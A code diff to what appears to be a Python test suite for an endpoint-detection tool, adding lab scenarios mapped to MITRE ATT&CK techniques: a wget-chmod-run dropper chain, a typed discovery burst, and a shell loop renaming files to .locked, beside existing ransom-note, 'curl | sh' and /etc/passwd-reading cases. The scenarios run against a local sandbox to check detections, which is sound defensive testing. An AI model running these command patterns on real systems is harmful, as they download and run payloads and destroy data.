@@ -76,7 +76,8 @@ class Lab:
         self.user = f"vigilsc{self.marker[:6]}"
         self.group = f"vigilsg{self.marker[:6]}"
         for d in (self.bin, self.home / ".ssh", self.www, self.root / "dl", self.root / "k", self.root / "data",
-                  self.root / "data2", self.root / "suid", self.root / "etc" / "sudoers.d", self.root / "loot",
+                  self.root / "data2", self.root / "data3", self.root / "dl2",
+                  self.root / "suid", self.root / "etc" / "sudoers.d", self.root / "loot",
                   self.home / ".mozilla" / "firefox" / "x.default", self.root / "lib" / "security"):
             d.mkdir(parents=True, exist_ok=True)
         for tool in STAND_INS:
@@ -95,6 +96,8 @@ class Lab:
         for i in range(12):
             (self.root / "data" / f"f{i}.txt").write_text(f"document {i}\n")
         (self.root / "data2" / "a.doc").write_text("doc\n")
+        for i in range(12):
+            (self.root / "data3" / f"r{i}.xlsx").write_text(f"sheet {i}\n")
         self.logs.mkdir()
         (self.logs / "auth.log").write_text("Dec  7 10:00:00 host sshd[1]: Accepted password for bob\n")
         self.closed_port = free_port()
@@ -184,6 +187,19 @@ def _hidden_run(lab: Lab) -> int:
     return lab.run(lab.root / ".cache-x" / ".kworker")
 
 
+def _dropper_chain(lab: Lab) -> int:
+    payload = lab.root / "dl2" / "stage2"
+    lab.run("wget", "-q", "-O", payload, f"{lab.url}/payload")
+    lab.run("chmod", "755", payload)
+    return lab.run(payload)
+
+
+def _typed_discovery(lab: Lab) -> None:
+    for line in ("id", "whoami", "uname -a", "hostname", "ps aux", "ip a", "cat /etc/os-release"):
+        lab.type(line)
+        time.sleep(0.05)
+
+
 def _hex(text: str) -> str:
     return text.encode().hex()
 
@@ -198,6 +214,8 @@ SCENARIOS: list[Scenario] = [
       lambda lab: lab.run("chmod", "+x", lab.root / "dl" / "payload"), lambda lab: str(lab.root / "dl" / "payload")),
     S("T1204.002", "the download run from /tmp", "proc_exec_from_temp_dir",
       lambda lab: lab.run(lab.root / "dl" / "payload", "--stage2"), lambda lab: str(lab.root / "dl" / "payload")),
+    S("T1204.002", "wget -O /tmp/..., chmod 755, run: the dropper chain (correlation)", "corr_download_chmod_execute",
+      _dropper_chain, lambda lab: str(lab.root / "dl2" / "stage2")),
     S("T1564.001", "a dot-named program run from a dot-folder in /tmp", "proc_exec_hidden_file_in_temp",
       lambda lab: _hidden_run(lab), lambda lab: ".kworker"),
     S("T1059.004", "typed: curl URL | sh", "proc_download_piped_to_shell",
@@ -328,6 +346,8 @@ SCENARIOS: list[Scenario] = [
     S("T1082", "burst of discovery commands", "proc_discovery_burst_cmdline",
       lambda lab: lab.sh(f"id; uname -a; hostname; cat /etc/passwd > /dev/null; true {lab.marker}"),
       lambda lab: f"true {lab.marker}"),
+    S("T1033", "typed: id, whoami, uname -a, hostname, ps aux, ip a, cat /etc/os-release (correlation)",
+      "corr_discovery_burst", _typed_discovery, lambda lab: f'"InitiatingProcessId": "{lab.shell_pid}"'),
     S("T1083", "setuid search (find -perm -4000)", "proc_suid_search",
       lambda lab: lab.run("find", lab.root, "-perm", "-4000"), lambda lab: f"find {lab.root} -perm -4000"),
     S("T1083", "capabilities search (getcap -r)", "proc_capabilities_search",
@@ -388,6 +408,8 @@ SCENARIOS: list[Scenario] = [
     S("T1486", "file renamed to .crypt", "file_ransomware_extension",
       lambda lab: lab.run("mv", lab.root / "data2" / "a.doc", lab.root / "data2" / "a.doc.crypt"),
       lambda lab: "a.doc.crypt"),
+    S("T1486", "12 files renamed to .locked in a shell loop (correlation)", "corr_mass_ransomware_renames",
+      lambda lab: lab.sh(f'for f in {lab.root}/data3/*; do mv "$f" "$f.locked"; done'), lambda lab: "data3"),
     S("T1486", "ransom note written", "file_ransom_note",
       lambda lab: lab.sh(f"echo 'pay up' > {lab.root}/data/HOW_TO_DECRYPT.txt"), lambda lab: "HOW_TO_DECRYPT.txt"),
     S("T1561.001", "disk wipe (wipefs -a, stand-in)", "proc_data_destruction",
